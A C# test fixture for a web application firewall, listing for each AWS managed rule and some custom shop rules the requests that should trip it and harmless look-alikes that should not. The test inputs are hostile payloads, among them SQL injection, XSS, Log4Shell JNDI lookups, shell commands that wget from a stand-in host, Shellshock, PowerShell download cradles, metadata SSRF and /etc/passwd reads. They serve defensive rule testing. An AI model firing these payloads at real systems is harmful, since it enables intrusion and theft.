namespace Redoubt.Tests.Waf.Managed;

/// <summary>For every managed rule, by its group's and its own name: requests that it and no other rule of its group finds, and requests of the same look that no rule of any group does.</summary>
static class ManagedRuleCases
{
    const string Browser = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";
    const string Common = "AWSManagedRulesCommonRuleSet", Bad = "AWSManagedRulesKnownBadInputsRuleSet", Sql = "AWSManagedRulesSQLiRuleSet", Windows = "AWSManagedRulesWindowsRuleSet", Bots = "AWSManagedRulesBotControlRuleSet", Shop = "RedoubtShopRuleSet";

    public static readonly (string Group, string Rule, WireRequest[] Found, WireRequest[] Ignored)[] All =
    [
        (Common, "NoUserAgent_HEADER", [new("/")], [Get("/")]),
        (Common, "UserAgent_BadBots_HEADER", [By("Mozilla/5.0 [en] (X11, U; OpenVAS 9)"), By("sqlmap/1.7")], [By(Browser)]),
        (Common, "SizeRestrictions_QUERYSTRING", [Get("/?q=" + new string('x', 2047))], [Get("/?q=" + new string('x', 2046))]),
        (Common, "SizeRestrictions_Cookie_HEADER", [Get("/").With("Cookie", "a=" + new string('x', 10_239))], [Get("/").With("Cookie", "a=" + new string('x', 10_238))]),
        (Common, "SizeRestrictions_BODY", [Form("q=" + new string('x', 8191))], [Form("q=" + new string('x', 8190))]),
        (Common, "SizeRestrictions_URIPATH", [Get("/" + new string('x', 1024))], [Get("/" + new string('x', 1023))]),
        (Common, "EC2MetaDataSSRF_BODY", [Form("u=latest%2Fmeta-data%2Fiam"), Json("""{"host":"169.254.169.254"}""")], [Form("u=latest+data+sheet")]),
        (Common, "EC2MetaDataSSRF_COOKIE", [Cookie("u", "169.254.169.254")], [Cookie("u", "192.0.2.254")]),
        (Common, "EC2MetaDataSSRF_URIPATH", [Get("/fetch/latest/user-data")], [Get("/latest/shoes")]),
        (Common, "EC2MetaDataSSRF_QUERYARGUMENTS", [Get("/?u=2852039166")], [Get("/?u=285203916")]),
        (Common, "GenericLFI_QUERYARGUMENTS", [Get("/?f=../../x"), Get("/?f=%252e%252e%252f%252e%252e%252fx")], [Get("/?size=42..44/46"), Get("/?q=and+so+on...")]),
        (Common, "GenericLFI_URIPATH", [Get("/a/..%2f..%2fx")], [Get("/a/b..c/d")]),
        (Common, "GenericLFI_BODY", [Form("f=..%5C..%5Cx"), Json("""{"f":"/a/../../x"}""")], [Form("note=well...+yes")]),
        (Common, "RestrictedExtensions_URIPATH", [Get("/app/debug.log"), Get("/config.php.bak")], [Get("/blog/log-in"), Get("/img/photo.jpg")]),
        (Common, "RestrictedExtensions_QUERYARGUMENTS", [Get("/?file=settings.ini")], [Get("/?file=photo.jpg"), Get("/?q=about the .ini format")]),
        (Common, "GenericRFI_QUERYARGUMENTS", [Get("/?p=http://192.0.2.7/x.txt?")], [Get("/?p=https://shop.example/x")]),
        (Common, "GenericRFI_BODY", [Form("p=ftp%3A%2F%2F192.0.2.7%2Fx")], [Form("p=https%3A%2F%2Fshop.example%2F")]),
        (Common, "GenericRFI_URIPATH", [Get("/load/http://192.0.2.7/x")], [Get("/load/http://shop.example/x")]),
        (Common, "CrossSiteScripting_COOKIE", [Cookie("a", "%3Cscript%3Ealert(1)%3C/script%3E")], [Cookie("a", "%7B%22consent%22%3Atrue%7D")]),
        (Common, "CrossSiteScripting_QUERYARGUMENTS", [Get("/?q=<script>alert(1)</script>"), Get("/?q=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==")], [Get("/?q=shoes+<+50+EUR")]),
        (Common, "CrossSiteScripting_BODY", [Form("q=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E"), Json("""{"q":"\u003cscript\u003ealert(1)\u003c/script\u003e"}""")], [Form("q=I+%3C3+it")]),
        (Common, "CrossSiteScripting_URIPATH", [Get("/%3Cscript%3Ealert(1)%3C%2Fscript%3E")], [Get("/script-shirts")]),

        ("AWSManagedRulesAdminProtectionRuleSet", "AdminProtection_URIPATH", [Get("/phpMyAdmin/index.php"), Get("/sqlmanager")], [Get("/admin"), Get("/products/manager-chair")]),

        (Bad, "JavaDeserializationRCE_HEADER", [Get("/").With("X-A", "T(java.lang.Runtime).getRuntime().exec(\"x\")"), Get("/").With("spring.cloud.function.routing-expression", "x")], [Get("/").With("X-A", "java beans")]),
        (Bad, "JavaDeserializationRCE_BODY", [Form("class.module.classLoader.resources=x"), Form("a=%28java.lang.Runtime%29")], [Form("q=java+lang+courses")]),
        (Bad, "JavaDeserializationRCE_URIPATH", [Get("/%24%7B(%23_memberAccess%5B%22x%22%5D)%7D")], [Get("/java-coffee")]),
        (Bad, "JavaDeserializationRCE_QUERYSTRING", [Get("/?a=(java.lang.Runtime).getRuntime()"), Get("/?class.module.classLoader=x")], [Get("/?q=java")]),
        (Bad, "Host_localhost_HEADER", [new WireRequest("/").With("Host", "localhost:8080").With("User-Agent", Browser)], [Get("/")]),
        (Bad, "PROPFIND_METHOD", [new WireRequest("/", "PROPFIND").With("User-Agent", Browser)], [Get("/")]),
        (Bad, "ExploitablePaths_URIPATH", [Get("/WEB-INF/web.xml"), Get("/.git/HEAD"), Get("/%2eenv")], [Get("/environment"), Get("/.well-known/security.txt")]),
        (Bad, "Log4JRCE_HEADER", [Get("/").With("X-Api-Version", "${jndi:ldap://x.example/a}"), By(Browser + " ${${lower:j}ndi:dns://x.example}")], [Get("/").With("X-A", "costs $5 {net}")]),
        (Bad, "Log4JRCE_QUERYSTRING", [Get("/?q=%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D"), Get("/?${env:X:-j}=1")], [Get("/?q=${name}")]),
        (Bad, "Log4JRCE_BODY", [Form("q=%24%7B%3A%3A-j%7D"), Json("""{"q":"${jndi:rmi://x.example}"}""")], [Form("q=%24%7Bprice%7D")]),
        (Bad, "Log4JRCE_URIPATH", [Get("/$%7Bjndi:ldap://x.example/a%7D")], [Get("/$%7Bname%7D")]),
        (Bad, "ReactJSRCE_BODY", [Json("""{"then":"$1:__proto__:then","status":"resolved_model","value":"{}"}""")], [Json("""{"status":"resolved"}""")]),

        (Sql, "SQLi_QUERYARGUMENTS", [Get("/?id=1'+or+'1'='1"), Get("/?id=-1+union+select+1,2--+")], [Get("/?q=O'Brien+or+Smith"), Get("/?q=union+was+a+great+select")]),
        (Sql, "SQLiExtendedPatterns_QUERYARGUMENTS", [Get("/?id=MScgb3IgJzEnPScx"), Get("/?id=1%2527%2520or%2520%25271%2527%253D%25271")], [Get("/?q=c2hvZXMgZm9yIG1lbg==")]),
        (Sql, "SQLi_BODY", [Form("id=1'+or+'1'%3D'1"), Json("""{"id":"1' or '1'='1"}""")], [Form("name=O'Brien")]),
        (Sql, "SQLiExtendedPatterns_BODY", [Form("id=MScgb3IgJzEnPScx")], [Form("id=c2hvZXMgZm9yIG1lbg")]),
        (Sql, "SQLiExtendedPatterns_HEADER", [Get("/").With("X-Id", "x waitfor delay '0:0:5'")], [Get("/").With("X-Id", "select one")]),
        (Sql, "SQLiExtendedPatterns_URIPATH", [Get("/information_schema.tables"), Get("/MScgb3IgJzEnPScx")], [Get("/sets/union-select-jeans")]),
        (Sql, "SQLi_COOKIE", [Cookie("id", "1'%20or%20'1'='1")], [Cookie("name", "O'Brien")]),
        (Sql, "SQLi_URIPATH", [Get("/products/1'%20or%20'1'='1")], [Get("/products/men's-shoes")]),

        ("AWSManagedRulesLinuxRuleSet", "LFI_URIPATH", [Get("/proc/version")], [Get("/process/version")]),
        ("AWSManagedRulesLinuxRuleSet", "LFI_QUERYSTRING", [Get("/?f=/etc/passwd"), Get("/?f=%252fetc%252fshadow")], [Get("/?q=etc.+passwords")]),
        ("AWSManagedRulesLinuxRuleSet", "LFI_HEADER", [Get("/").With("X-File", "/etc/passwd"), Cookie("f", "%2Fetc%2Fpasswd")], [Get("/").With("X-File", "/media/a.jpg")]),

        ("AWSManagedRulesUnixRuleSet", "UNIXShellCommandsVariables_QUERYSTRING", [Get("/?q=;cat+/tmp/x"), Get("/?q=$(whoami)"), Get("/?q=O2NhdCAvdG1wL3g=")], [Get("/?q=cat+food;+dog+food"), Get("/?q=ls+300+lexus")]),
        ("AWSManagedRulesUnixRuleSet", "UNIXShellCommandsVariables_BODY", [Form("q=%7Cwget+http%3A%2F%2Fx.example%2Fy"), Json("""{"q":"x`id`"}""")], [Form("q=I'd+like+it+%26+soon"), Json("""{"q":"Works with Linux. `lsusb` shows it."}""")]),
        ("AWSManagedRulesUnixRuleSet", "UNIXShellCommandsVariables_HEADER", [By("() { :; }; echo; /bin/bash -c 'id'"), Get("/").With("X-A", "x; cat /tmp/y")], [By(Browser), Get("/").With("Accept", "text/html;q=0.9, */*;q=0.8")]),

        (Windows, "WindowsShellCommands_COOKIE", [Cookie("a", "x|nslookup x.example")], [Cookie("a", "x|y|z")]),
        (Windows, "WindowsShellCommands_HEADER", [Get("/").With("X-A", "x&cmd.exe /c dir")], [Get("/").With("X-A", "cmd")]),
        (Windows, "WindowsShellCommands_QUERYARGUMENTS", [], [Get("/?q=dir+with+me")]),
        (Windows, "WindowsShellCommands_QUERYSTRING", [Get("/?x%26cmd.exe=1")], [Get("/?cmd=1")]),
        (Windows, "WindowsShellCommands_URIPATH", [Get("/x%26certutil%20-f")], [Get("/certificates")]),
        (Windows, "WindowsShellCommands_BODY", [Form("q=x%7Ctasklist"), Form("q=%25COMSPEC%25")], [Form("q=task+list")]),
        (Windows, "PowerShellCommands_COOKIE", [Cookie("a", "Invoke-Expression x")], [Cookie("a", "expression")]),
        (Windows, "PowerShellCommands_QUERYARGUMENTS", [Get("/?q=IEX(New-Object+Net.WebClient)")], [Get("/?q=power+shell+game")]),
        (Windows, "PowerShellCommands_BODY", [Form("q=Invoke-WebRequest+x")], [Form("q=web+request")]),

        ("AWSManagedRulesPHPRuleSet", "PHPHighRiskMethodsVariables_HEADER", [Get("/").With("X-A", "<?php x"), Cookie("a", "fsockopen('x')")], [Get("/").With("X-A", "php")]),
        ("AWSManagedRulesPHPRuleSet", "PHPHighRiskMethodsVariables_QUERYSTRING", [Get("/?q=$_GET[x]"), Get("/?q=php://filter/x"), Get("/?q=system('id')")], [Get("/?q=sound+system+(new)"), Get("/?q=exec+noun")]),
        ("AWSManagedRulesPHPRuleSet", "PHPHighRiskMethodsVariables_BODY", [Form("q=phpinfo()")], [Form("q=does+%22sleep(8h)+mode%22+drain+it")]),
        ("AWSManagedRulesPHPRuleSet", "PHPHighRiskMethodsVariables_URIPATH", [Get("/%3C%3Fphp%20x")], [Get("/index.php")]),

        ("AWSManagedRulesWordPressRuleSet", "WordPressExploitableCommands_QUERYSTRING", [Get("/?do-reset-wordpress=1")], [Get("/?reset=1")]),
        ("AWSManagedRulesWordPressRuleSet", "WordPressExploitablePaths_URIPATH", [Get("/xmlrpc.php")], [Get("/wp-content/a.js")]),

        .. Networks("AWSManagedRulesAmazonIpReputationList", "AWSManagedIPReputationList", "203.0.113.1"),
        .. Networks("AWSManagedRulesAmazonIpReputationList", "AWSManagedReconnaissanceList", "203.0.113.2"),
        .. Networks("AWSManagedRulesAmazonIpReputationList", "AWSManagedIPDDoSList", "203.0.113.3"),
        .. Networks("AWSManagedRulesAnonymousIpList", "AnonymousIPList", "203.0.113.4"),
        .. Networks("AWSManagedRulesAnonymousIpList", "HostingProviderIPList", "203.0.113.5"),

        .. Bot("CategoryAdvertising", "AdsBot-Google"), .. Bot("CategoryArchiver", "archive.org_bot"), .. Bot("CategoryContentFetcher", "Feedly/1.0"), .. Bot("CategoryEmailClient", "GoogleImageProxy"),
        .. Bot("CategoryHttpLibrary", "python-requests/2.31"), .. Bot("CategoryLinkChecker", "W3C-checklink/4"), .. Bot("CategoryMiscellaneous", "SomeCrawler"), .. Bot("CategoryMonitoring", "UptimeRobot/2.0"),
        .. Bot("CategoryPagePreview", "Slackbot-LinkExpanding 1.0"), .. Bot("CategoryScrapingFramework", "Scrapy/2.11"), .. Bot("CategorySearchEngine", "Googlebot/2.1"), .. Bot("CategorySecurity", "CensysInspect/1.1"),
        .. Bot("CategorySeo", "AhrefsBot/7.0"), .. Bot("CategorySocialMedia", "facebookexternalhit/1.1"), .. Bot("CategoryWebhooks", "Stripe/1.0"), .. Bot("CategoryAI", "GPTBot/1.2"),
        (Bots, "SignalAutomatedBrowser", [By("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/126.0 Safari/537.36")], [By(Browser)]),
        .. Networks(Bots, "SignalKnownBotDataCenter", "203.0.113.6"),
        (Bots, "SignalNonBrowserUserAgent", [By("MyScript 1.0"), new("/")], [By(Browser)]),

        (Shop, "EncodedBody", [new WireRequest("/", "POST").With("User-Agent", Browser).With("Content-Encoding", "gzip").WithBody("abc", "text/plain")], [new WireRequest("/", "POST").With("User-Agent", Browser).With("Content-Encoding", "identity").WithBody("abc", "text/plain")]),
        (Shop, "UninspectableRequest", [Json("{\"q\":")], [Json("{\"q\":1}")]),
        (Shop, "PathTraversal", [Get("/").With("X-A", "../../x"), Cookie("a", "..%2f..%2fx")], [Get("/").With("X-A", "1..2")]),
        (Shop, "LocalFile", [Form("f=%2Fetc%2Fpasswd")], [Form("f=etc")]),
        (Shop, "ShellCommand", [Get("/;wget%20http:%2f%2fx.example")], [Get("/shell-jackets")]),
        (Shop, "CodeInjection", [Get("/?q=__import__('os').popen('x')"), Json("""{"q":"require('child_process')"}"""), Get("/?q=Response.Write(1)")], [Get("/?q=import+furniture"), Form("q=exec+(the+noun)")]),
        (Shop, "TemplateInjection", [Get("/?q={{7*7}}"), Form("q=%23%7B7*7%7D"), Get("/?q=%24%7B7*7%7D")], [Get("/?q={{name}}"), Form("t=%7B%25+if+customer+%25%7DHi+%7B%7B+customer.name+%7D%7D")]),
        (Shop, "NoSqlInjection", [Get("/?user[$ne]=x"), Json("""{"user":{"$gt":""}}"""), Get("/?q=true,+$where:+'1==1'")], [Json("""{"event":"$pageview","$set":{"a":1}}"""), Get("/?q=US$+or+CA$")]),
        (Shop, "LdapInjection", [Get("/?u=*)(uid=*))(|(uid=*"), Get("/?u=x)(%26(objectClass=user)")], [Get("/?q=shoes+(red)(size+42)")]),
        (Shop, "ServerSideInclude", [Form("q=%3C!--%23exec+cmd%3D%22x%22--%3E")], [Form("q=%3C!--+note+--%3E")]),
        (Shop, "ServerSideRequestForgery", [Get("/?u=http://localhost/admin"), Get("/?u=gopher://x.example"), Get("/?u=http://0x7f.1/")], [Get("/?u=https://shop.example/10.0.0.1"), Get("/?v=127.0.0.1")]),
        (Shop, "XmlInjection", [Get("/?x=<!DOCTYPE+a+[<!ENTITY+b+SYSTEM+'file:///x'>]>"), Get("/?x=<xi:include+href='x'/>")], [Get("/?x=<a/>")]),
        (Shop, "ResponseSplitting", [Get("/?u=x%0d%0aSet-Cookie:a=b"), Get("/x%0aLocation:%20y"), Get("/%E5%98%8A%E5%98%8DSet-Cookie:a=b")], [Get("/?q=a%0d%0ab"), Form("note=Hello%0D%0ALocation%3A+Berlin")]),
        (Shop, "MailInjection", [Form("from=a%40b.example%0ABcc%3A+c%40d.example"), Form("q=x%0D%0ARCPT+TO%3A+x%40y.example")], [Form("note=Hello%0ATo+all%3A+thanks")]),
        (Shop, "InsecureDeserialization", [Get("/?d=O:8:\"stdClass\":0:{}"), Form("d=--- !ruby/object:Gem::Installer")], [Cookie("cart", "a%3A1%3A%7Bs%3A2%3A%22id%22%3Bi%3A7%3B%7D"), Get("/?q=CO:2:1")]),
        (Shop, "PrototypePollution", [Get("/?__proto__[a]=b"), Json("""{"constructor":{"prototype":{"a":1}}}"""), Get("/?constructor[prototype][a]=b")], [Get("/?q=constructor+toys")]),
        (Shop, "CrossSiteScripting", [Get("/").With("X-Name", "<script>alert(1)</script>")], [Get("/").With("X-Name", "a < b")]),
        (Shop, "GraphQLIntrospection", [Json("""{"query":"{ __schema { types { name } } }"}""")], [Json("""{"query":"{ products { name } }"}""")]),
    ];

    /// <summary>The lists that the cases ask for.</summary>
    public static readonly (string List, string Network)[] Lists =
    [
        ("AWSManagedIPReputationList", "203.0.113.1"), ("AWSManagedReconnaissanceList", "203.0.113.2"), ("AWSManagedIPDDoSList", "203.0.113.3"), ("AnonymousIPList", "203.0.113.4"), ("HostingProviderIPList", "203.0.113.5"), ("SignalKnownBotDataCenter", "203.0.113.6"), ("bot-google", "203.0.113.7"),
    ];

    static WireRequest Get(string target) => new WireRequest(target.Replace("<", "%3C", StringComparison.Ordinal).Replace(">", "%3E", StringComparison.Ordinal).Replace(" ", "%20", StringComparison.Ordinal)).With("Host", "shop.example").With("User-Agent", Browser);

    static WireRequest By(string agent) => new WireRequest().With("Host", "shop.example").With("User-Agent", agent);

    static WireRequest Cookie(string name, string value) => Get("/").With("Cookie", $"session=b7f3d91c04e2; {name}={value}");

    static WireRequest Form(string body) => new WireRequest("/", "POST").With("Host", "shop.example").With("User-Agent", Browser).WithBody(body, "application/x-www-form-urlencoded");

    static WireRequest Json(string body) => new WireRequest("/", "POST").With("Host", "shop.example").With("User-Agent", Browser).WithBody(body, "application/json");

    static (string, string, WireRequest[], WireRequest[])[] Networks(string group, string rule, string address) =>
        [(group, rule, [new WireRequest("/", from: address).With("User-Agent", Browser)], [new WireRequest("/", from: "198.51.100.9").With("User-Agent", Browser)])];

    static (string, string, WireRequest[], WireRequest[])[] Bot(string rule, string agent) => [(Bots, rule, [By($"Mozilla/5.0 (compatible; {agent})")], [By(Browser)])];
}
